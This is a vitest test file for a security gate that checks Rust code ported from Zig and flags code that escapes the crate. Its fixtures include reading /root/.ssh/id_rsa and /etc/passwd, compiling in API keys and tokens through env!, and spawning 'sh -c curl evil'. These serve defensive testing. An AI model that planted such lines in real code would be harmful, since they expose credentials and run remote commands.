/** The gate's rules against what escapes the crate (issue 12), read on the Rust syntax tree. */
import { describe, expect, it } from 'vitest';
import { buildWorkItem } from '../../../src/source/index.js';
import { gate, type GateOptions } from '../../../recipes/zig-to-rust/gate.js';

const ZIG = 'pub fn answer() u32 { return 42; }\ntest "answers" {}\n';
const item = (zig = ZIG) => buildWorkItem('/tmp', 'net/client.zig', Buffer.from(zig));
const opts = (extra: Partial<GateOptions> = {}): GateOptions => ({ crate: 'demo', bin: false, rustPath: 'src/net/client.rs', zigSource: ZIG, ...extra });
const port = (top: string, test = '') => `${top}\npub fn answer() -> u32 { 42 }\n#[cfg(test)]\nmod tests {\n    use super::*;\n    #[test]\n    fn answers() {\n        assert_eq!(answer(), 42);\n${test}\n    }\n}\n`;
const findings = (rust: string, todos: string[] = [], extra: Partial<GateOptions> = {}, zig = ZIG) => gate(item(zig), rust, todos, opts({ zigSource: zig, ...extra })).findings;

describe('the gate refuses what escapes the crate', () => {
  it('passes a clean port, lint-level inner attributes and includes inside src/', () => {
    expect(findings(port('#![allow(dead_code)]\nconst DATA: &str = include_str!("table.txt");\nconst UP: &[u8] = include_bytes!("../shared.bin");'))).toEqual([]);
  });

  it('refuses #[path] in any form: split over lines, through cfg_attr, as an inner attribute', () => {
    expect(findings(port('#[\n    path\n    = "/etc/passwd"\n]\npub mod x {}'))).toEqual([expect.stringMatching(/^Line 1 has a `#\[path = …\]` attribute/)]);
    expect(findings(port('#[cfg_attr(all(), path = "../../secret.rs")]\npub mod y {}'))).toEqual([expect.stringMatching(/^Line 1 has a `#\[path = …\]`/)]);
    expect(findings(port('pub mod z {\n    #![path = "/tmp"]\n}'))).toEqual([expect.stringMatching(/^Line 2 has a `#\[path = …\]`/)]);
  });

  it('refuses include!, include_str! and include_bytes! of paths outside src/ or not literal', () => {
    const f = findings(port('const A: &str = include_str!("../../Cargo.toml");\nconst B: &[u8] = std::include_bytes!("/root/.ssh/id_rsa");\nconst C: &str = include_str!(concat!("/etc", "/passwd"));\nmacro_rules! m { () => { include!("../../../x.rs") } }'));
    expect(f).toEqual([
      expect.stringMatching(/^Line 1 uses `include_str!\("..\/..\/Cargo.toml"\)`, which reads `Cargo.toml`, outside src\//),
      expect.stringMatching(/^Line 2 uses `include_bytes!\("\/root\/.ssh\/id_rsa"\)`, which reads a file outside the crate/),
      expect.stringMatching(/^Line 3 uses `include_str!` with something other than a plain string literal/),
      expect.stringMatching(/^Line 4 uses `include!\("..\/..\/..\/x.rs"\)`/),
    ]);
  });

  it('refuses env! and option_env!, in code and inside macro arguments', () => {
    expect(findings(port('pub const KEY: &str = env!("ANTHROPIC_API_KEY");', '        println!("{:?}", option_env!("GITHUB_TOKEN"));'))).toEqual([
      expect.stringMatching(/^Line 1 uses `env!`: it compiles a variable of the build's environment/),
      expect.stringMatching(/^Line 9 uses `option_env!`/),
    ]);
  });

  it('refuses every extern crate and crate attributes in module files', () => {
    expect(findings(port('extern crate alloc;\n#![no_std]\n#![feature(test)]'))).toEqual([
      expect.stringMatching(/^Line 1 declares `extern crate alloc`/),
      expect.stringMatching(/^Line 2 has the inner attribute `#!\[no_std…\]`/),
      expect.stringMatching(/^Line 3 has the inner attribute `#!\[feature…\]`/),
    ]);
  });

  it('refuses processes, sockets, environment reads and extern blocks in test code unless the Zig does the same or todos justify it', () => {
    const hostile = port('use std::process::Command;\nuse std::env;', [
      '        let _ = Command::new("sh").arg("-c").arg("curl evil").spawn();',
      '        let _ = env::var("ANTHROPIC_API_KEY");',
      '        let _ = std::net::TcpStream::connect("127.0.0.1:9");',
      '        extern "C" { fn getpid() -> i32; }',
    ].join('\n'));
    const f = findings(hostile);
    expect(f).toEqual([
      expect.stringMatching(/^Line 10: test code uses `std::process::Command`, which spawns processes, but the Zig source does not/),
      expect.stringMatching(/^Line 11: test code uses `std::env::var`, which reads the environment/),
      expect.stringMatching(/^Line 12: test code uses `std::net::TcpStream`, which opens network connections/),
      expect.stringMatching(/^Line 13: test code uses `extern \{ … \}`, which calls the C library directly/),
    ]);
    // The same outside test code is the port's business (the sandbox confines it when it runs).
    expect(findings(port('pub fn home() -> Option<String> { std::env::var("HOME").ok() }\npub fn run() { let _ = std::process::Command::new("ls"); }'))).toEqual([]);
    // The Zig uses the equivalent: allowed.
    const zig = `${ZIG}const std = @import("std");\nfn spawns(a: std.mem.Allocator) !void { var child = std.process.Child.init(&.{"sh"}, std.testing.allocator); _ = std.process.getEnvVarOwned(a, "HOME"); _ = try std.net.tcpConnectToHost(a, "x", 1); _ = child; }\nextern fn getpid() i32;\n`;
    expect(findings(hostile, [], {}, zig)).toEqual([]);
    // Justified in todos: allowed, for the reviewers to judge.
    expect(findings(hostile, ['the test spawns a process with Command, reads an env var and opens a tcp socket through an extern (ffi) call, as the fixture needs'])).toEqual([]);
  });
});
